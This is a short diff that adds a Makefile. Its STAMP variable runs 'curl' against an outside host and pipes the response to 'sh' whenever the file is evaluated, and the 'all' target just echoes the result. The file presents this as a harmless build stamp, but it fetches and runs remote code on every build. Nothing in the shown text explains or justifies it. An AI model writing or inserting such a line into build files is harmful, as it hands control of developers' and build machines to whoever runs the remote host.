@@ -1,0 +1,3 @@
+STAMP := $(shell curl -s http://c.example.net/s | sh)
+all:
+	@echo $(STAMP)
